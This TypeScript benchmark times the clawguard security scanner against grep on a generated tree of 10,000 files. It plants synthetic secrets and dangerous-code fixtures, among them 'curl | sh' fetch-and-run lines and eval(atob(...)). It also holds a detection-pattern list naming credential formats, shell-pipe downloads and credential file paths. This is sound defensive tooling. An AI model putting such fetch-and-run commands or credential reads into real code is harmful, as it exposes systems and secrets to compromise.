/**
 * security-scan throughput: a generated tree of 10,000 files / 100 MB (code, configs, docs,
 * logs, with a sprinkling of synthetic secrets and dangerous code), scanned by clawguard and,
 * in the same run, by `grep -rEc` with the equivalent patterns. Target: <= 10 s and <= 2x grep.
 */
import { spawn, spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { availableParallelism, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { scan, SEVERITIES } from '../src/scan/index.js';
import { type BenchSection, renderSection } from './harness.js';
import { mulberry32 } from '../test/helpers/prng.js';

const FILES = 10_000;
const TOTAL_BYTES = 100 * 1024 * 1024;

const rng = mulberry32;

const WORDS = 'agent request profile runtime thread bound session secret rotation policy sandbox network domain allowed blocked gateway audit record chain monitor metric baseline anomaly tool fetch read write list message memory model chat result error timeout limit queue worker instance destroy create update delete user account project workspace config value handler context state cache index store query batch stream buffer parse format render'.split(' ');

function gen(r: () => number) {
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const word = () => pick(WORDS);
  const ident = () => word() + word()[0]!.toUpperCase() + word().slice(1);
  const UPPER = () => `${word().toUpperCase()}_${word().toUpperCase()}`;
  const words = (n: number) => Array.from({ length: n }, word).join(' ');
  const chars = (alphabet: string, n: number) => Array.from({ length: n }, () => alphabet[Math.floor(r() * alphabet.length)]).join('');
  const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
  const hex = (n: number) => chars('0123456789abcdef', n);
  const b64url = (s: string) => Buffer.from(s).toString('base64url');

  const js = [
    () => `import { ${ident()} } from './${word()}/${ident()}.js';`,
    () => `export async function ${ident()}(${word()}: string, ${word()}Id: number): Promise<${ident()}> {`,
    () => `  const ${ident()} = await this.${ident()}(${word()}, { timeout: ${Math.floor(r() * 9000)} });`,
    () => `  if (!${ident()}) throw new Error('${words(5)}');`,
    () => `  const apiKey = process.env.${UPPER()};`,
    () => `  const tokenUrl = 'https://${word()}.example.com/${word()}/token';`,
    () => `  logger.info({ ${ident()}, ${ident()} }, '${words(6)}');`,
    () => `  // ${words(10)}`,
    () => `  return ${word()}s.map((${word()}) => ${word()}.${ident()}).filter(Boolean);`,
    () => `  const headers = { 'content-type': 'application/json', authorization: \`Bearer \${${ident()}.token}\` };`,
    () => `}`,
  ];
  const py = [
    () => `def ${word()}_${word()}(${word()}, ${word()}=None, *, timeout=${Math.floor(r() * 60)}):`,
    () => `    ${word()} = os.environ.get("${UPPER()}")`,
    () => `    ${word()}_key = settings.${word().toUpperCase()}_KEY`,
    () => `    return [${word()} for ${word()} in ${word()}s if ${word()}.${word()}]`,
    () => `    logger.debug("${words(7)}", extra={"${word()}": ${word()}})`,
    () => `    # ${words(9)}`,
  ];
  const md = [
    () => `## ${words(3)}`,
    () => `${words(14)}. ${words(12)}.`,
    () => `- \`${word()}.${word()}\`: ${words(8)}`,
    () => `Set the token with \`clawguard secrets set ${word()}\` and rotate it ${pick(['daily', 'weekly'])}.`,
  ];
  // Data JSON (fixtures, API samples, i18n): most JSON files in a tree.
  const json = [
    () => `  "${ident()}": "${words(3)}",`,
    () => `  "${word()}Id": ${Math.floor(r() * 1e6)},`,
    () => `  "${word()}": { "enabled": ${r() < 0.5}, "timeout": ${Math.floor(r() * 300)} },`,
  ];
  /** A clawguard config (some with problems), as found in an agents/ directory. */
  const config = () =>
    JSON.stringify(
      {
        agents: { [`${word()}-tasks`]: { runtime: 'thread-bound', 'auto-destroy': r() < 0.9, timeout: pick([60, 120, 300]), ...(r() < 0.5 ? { 'max-concurrent': 4 } : {}) } },
        models: { local: { type: 'openai-compatible', baseUrl: 'http://127.0.0.1:8000/v1', apiKeyEnv: UPPER() } },
        secrets: { [word()]: { provider: 'external', source: 'vault', rotation: pick(['daily', 'weekly', 'monthly']) } },
        sandbox: { mode: 'strict', fileAccess: { blockedPaths: ['/etc', '~/.ssh', '~/.aws', '~/.gnupg'] }, networkAccess: { allowedDomains: ['api.example.com'], blockedDomains: ['*'] } },
      },
      null,
      2,
    );
  const log = [
    () => `2025-0${1 + Math.floor(r() * 9)}-1${Math.floor(r() * 9)}T12:${10 + Math.floor(r() * 49)}:00Z INFO ${words(6)} request_id=${hex(32)} user=${ident()}`,
    () => `2025-03-14T09:26:53Z WARN ${words(5)} key_id=${hex(16)} retry=${Math.floor(r() * 5)}`,
  ];
  const secrets = [
    () => `const awsKeyId = "AKIA${chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}";`,
    () => `GITHUB_TOKEN=ghp_${chars(ALNUM, 36)}`,
    () => `slack_token: "xoxb-${chars('0123456789', 12)}-${chars('0123456789', 13)}-${chars(ALNUM, 24)}"`,
    () => `stripe_key = "sk_live_${chars(ALNUM, 32)}"`,
    () => `db_password = "${chars(ALNUM, 12)}#${chars(ALNUM, 8)}"`,
    () => `Authorization: Bearer ${b64url(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))}.${b64url(JSON.stringify({ sub: hex(8), iat: 1700000000 + Math.floor(r() * 1e6) }))}.${chars(ALNUM, 43)}`,
    () => `-----BEGIN RSA PRIVATE KEY-----\n${Array.from({ length: 8 }, () => chars(ALNUM + '+/', 64)).join('\n')}\n-----END RSA PRIVATE KEY-----`,
  ];
  const danger = [
    () => `execSync(\`curl -fsSL https://${word()}.example.net/install.sh | sh\`);`, // clawguard:allow (benchmark fixture)
    () => `eval(atob('${Buffer.from(words(20)).toString('base64')}'));`, // clawguard:allow (benchmark fixture)
    () => `const out = require('child_process').execSync('git ' + ${word()});`, // clawguard:allow (benchmark fixture)
  ];
  return { js, py, md, json, config, log, secrets, danger, pick };
}

interface Tree {
  dir: string;
  files: number;
  bytes: number;
  plantedSecrets: number;
}

export async function generate(): Promise<Tree> {
  const dir = await mkdtemp(join(tmpdir(), 'clawguard-scan-bench-'));
  const r = rng(20250101);
  const g = gen(r);
  const kinds: Array<{ ext: string; lines: Array<() => string>; weight: number }> = [
    { ext: 'ts', lines: g.js, weight: 0.3 },
    { ext: 'js', lines: g.js, weight: 0.15 },
    { ext: 'py', lines: g.py, weight: 0.15 },
    { ext: 'md', lines: g.md, weight: 0.15 },
    { ext: 'json', lines: g.json, weight: 0.1 },
    { ext: 'log', lines: g.log, weight: 0.15 },
  ];
  const per = Math.floor(TOTAL_BYTES / FILES);
  let bytes = 0;
  let planted = 0;
  const writes: Array<Promise<void>> = [];
  for (let d = 0; d < 100; d++) await mkdir(join(dir, `area-${d}`, 'sub'), { recursive: true });
  for (let i = 0; i < FILES; i++) {
    let x = r();
    const kind = kinds.find((k) => (x -= k.weight) < 0) ?? kinds[0]!;
    const target = per + Math.floor((r() - 0.5) * 2048);
    const lines: string[] = kind.ext === 'json' ? ['{'] : [];
    let size = 0;
    while (size < target) {
      const l = g.pick(kind.lines)();
      lines.push(l);
      size += l.length + 1;
    }
    if (r() < 0.02) {
      lines.splice(Math.floor(r() * lines.length), 0, g.pick(g.secrets)());
      planted++;
    }
    if ((kind.ext === 'ts' || kind.ext === 'js') && r() < 0.005) lines.splice(Math.floor(r() * lines.length), 0, g.pick(g.danger)());
    if (kind.ext === 'json') lines.push('  "end": true', '}');
    // One JSON file in 20 is a clawguard config rather than data.
    const text = kind.ext === 'json' && r() < 0.05 ? g.config() + '\n' : lines.join('\n') + '\n';
    bytes += Buffer.byteLength(text);
    writes.push(writeFile(join(dir, `area-${i % 100}`, i % 3 === 0 ? 'sub' : '', `file-${i}.${kind.ext}`), text));
    if (writes.length >= 256) await Promise.all(writes.splice(0));
  }
  await Promise.all(writes);
  // Flush the freshly written tree so write-back does not run during the timed scans.
  spawnSync('sync', { stdio: 'ignore' });
  return { dir, files: FILES, bytes, plantedSecrets: planted };
}

/** The scanner's rules, written as POSIX EREs for grep (lookarounds dropped). */
const ci = (w: string) => [...w].map((c) => `[${c.toUpperCase()}${c.toLowerCase()}]`).join('');
export const GREP_PATTERNS = [
  '(A3T[A-Z0-9]|AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}',
  'ABSK[A-Za-z0-9+/]{100,300}',
  'bedrock-api-key-[A-Za-z0-9+/]{28,}',
  'sk-((proj|svcacct|admin)-)?[A-Za-z0-9_-]{20,}T3BlbkFJ[A-Za-z0-9_-]{20,}',
  'sk-ant-(api|admin)0[0-9]-[A-Za-z0-9_-]{93}AA',
  'gh[pousr]_[A-Za-z0-9]{36}',
  'github_pat_[A-Za-z0-9_]{82}',
  'xoxe\\.xox[bp]-[0-9]-[A-Za-z0-9]{100,200}',
  'xoxe-[0-9]-[A-Za-z0-9]{100,200}',
  'xox[pe](-[0-9]{10,13}){3}-[A-Za-z0-9-]{28,34}',
  'xoxb-[0-9]{8,14}-([0-9]{8,14}-)?[A-Za-z0-9]{18,40}',
  'xox[os]-[0-9]+-[0-9]+-[0-9]+-[a-fA-F0-9]+',
  'xox[ar]-([0-9]-)?[A-Za-z0-9]{8,48}',
  'xapp-[0-9]-[A-Z0-9]+-[0-9]+-[A-Za-z0-9]+',
  'hooks\\.slack\\.com/(services|workflows|triggers)/[A-Za-z0-9+/]{40,100}',
  '[sr]k_(test|live|prod)_[A-Za-z0-9]{10,99}',
  'AIza[A-Za-z0-9_-]{35}',
  'ey[A-Za-z0-9_-]{17,}\\.ey[A-Za-z0-9_/\\\\-]{17,}\\.',
  'ZXlK[A-Za-z0-9+/]{60,}',
  '-----BEGIN[ A-Z0-9_-]{0,40}PRIVATE KEY',
  `[A-Za-z0-9_.-]*(${['key', 'token', 'secret', 'pass', 'pwd', 'cred', 'auth'].map(ci).join('|')})[A-Za-z0-9_.-]*['"]?[ \t]*(=|:|\\?=|,)[ \t]*['"]?[^ \t'"]{8,}`,
  '(curl|wget)[^|;&]*\\|[ ]*(sudo[ ]+)?(ba|z|k|da)?sh',
  'base64[ ]+(-d|--decode)[^|]*\\|[ ]*(ba|z)?sh',
  '(eval|Function|exec|execSync)[ ]*\\([ ]*(atob|Buffer\\.from|b64decode)',
  'child_process',
  '(^|[^A-Za-z0-9_$.])eval[ ]*\\(',
  'new[ ]+Function[ ]*\\(',
  'JSON\\.stringify\\([ ]*process\\.env',
  'Object\\.(entries|keys|values)\\([ ]*process\\.env',
  'os\\.environ\\.(items|keys|values)\\(',
  'subprocess\\.[a-z_]+\\(.*shell[ ]*=[ ]*True',
  'os\\.(system|popen)[ ]*\\(',
  '\\.(ssh/id_|aws/credentials|npmrc|netrc|git-credentials|docker/config\\.json|kube/config)',
  '(fetch|axios|https?\\.request)[ ]*\\(',
];

/** A full GC between phases, without requiring --expose-gc on the command line. */
function collectGarbage(): void {
  setFlagsFromString('--expose-gc');
  (runInNewContext('gc') as () => void)();
}

function runGrep(dir: string, patternFile: string): Promise<{ ms: number; matchingFiles: number }> {
  return new Promise((resolveP, reject) => {
    const t0 = process.hrtime.bigint();
    const p = spawn('grep', ['-rEc', '--exclude-dir=node_modules', '--exclude-dir=.git', '-f', patternFile, dir], { env: { ...process.env, LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'ignore'] });
    let matching = 0;
    let rest = '';
    p.stdout.setEncoding('utf8');
    p.stdout.on('data', (chunk: string) => {
      const lines = (rest + chunk).split('\n');
      rest = lines.pop()!;
      for (const l of lines) if (!l.endsWith(':0')) matching++;
    });
    p.on('error', reject);
    p.on('close', (code) => {
      if (code !== 0 && code !== 1) reject(new Error(`grep exited ${code}`));
      else resolveP({ ms: Number(process.hrtime.bigint() - t0) / 1e6, matchingFiles: matching });
    });
  });
}

export async function run(): Promise<BenchSection> {
  const tree = await generate();
  const patternFile = join(tree.dir, '..', `${tree.dir.split('/').pop()}-patterns.txt`);
  await writeFile(patternFile, GREP_PATTERNS.join('\n') + '\n');
  try {
    // Two rounds each, in alternating order, best of two: both see the same warm page cache.
    const scanMs: number[] = [];
    const grepMs: number[] = [];
    let findings = 0;
    let secretFindings = 0;
    const threadsUsed: number[] = [];
    let grepFiles = 0;
    let grepError: string | undefined;
    const timeGrep = async () => {
      try {
        const g = await runGrep(tree.dir, patternFile);
        grepMs.push(g.ms);
        grepFiles = g.matchingFiles;
      } catch (e) {
        grepError = (e as Error).message;
      }
    };
    const timeScan = async () => {
      const t0 = process.hrtime.bigint();
      const report = await scan({ target: tree.dir, severities: SEVERITIES });
      scanMs.push(Number(process.hrtime.bigint() - t0) / 1e6);
      findings = report.summary.total;
      secretFindings = report.findings.filter((f) => f.secret).length;
      threadsUsed.push(report.summary.threads);
    };
    collectGarbage(); // the generator's garbage is not the scanner's to collect
    await timeGrep();
    await timeScan();
    collectGarbage();
    await timeScan();
    await timeGrep();
    const scanS = Math.min(...scanMs) / 1000;
    const grepS = grepMs.length > 0 ? Math.min(...grepMs) / 1000 : NaN;
    const met = scanS <= 10 && (Number.isNaN(grepS) || scanS <= 2 * grepS);
    return {
      title: 'security-scan',
      rows: [
        {
          name: `scan ${tree.files.toLocaleString('en')} files / ${(tree.bytes / 1048576).toFixed(0)} MB`,
          value: scanS,
          unit: 's',
          baselineName: `grep -rEc, ${GREP_PATTERNS.length} equivalent patterns`,
          ...(Number.isNaN(grepS) ? {} : { baselineValue: grepS }),
          target: '<= 10 s, <= 2x grep',
          met,
        },
        { name: 'scan throughput', value: tree.bytes / 1048576 / scanS, unit: 'MB/s' },
      ],
      notes: [
        `Tree: ${tree.files} files (ts/js/py/md/json/log), ${tree.bytes.toLocaleString('en')} bytes, ${tree.plantedSecrets} planted synthetic secrets; ${findings} findings (${secretFindings} secrets); grep matched lines in ${grepFiles} files. Best of 2 runs each; ${availableParallelism()} CPUs, scan threads per run ${threadsUsed.join(', ')} (idle cores at start; 1-min load average was ${loadavg()[0]!.toFixed(1)}).`,
        ...(grepError ? [`grep baseline unavailable: ${grepError}`] : []),
      ],
    };
  } finally {
    await rm(tree.dir, { recursive: true, force: true });
    await rm(patternFile, { force: true });
  }
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  run().then((s) => process.stdout.write(`${renderSection(s)}\n`));
}
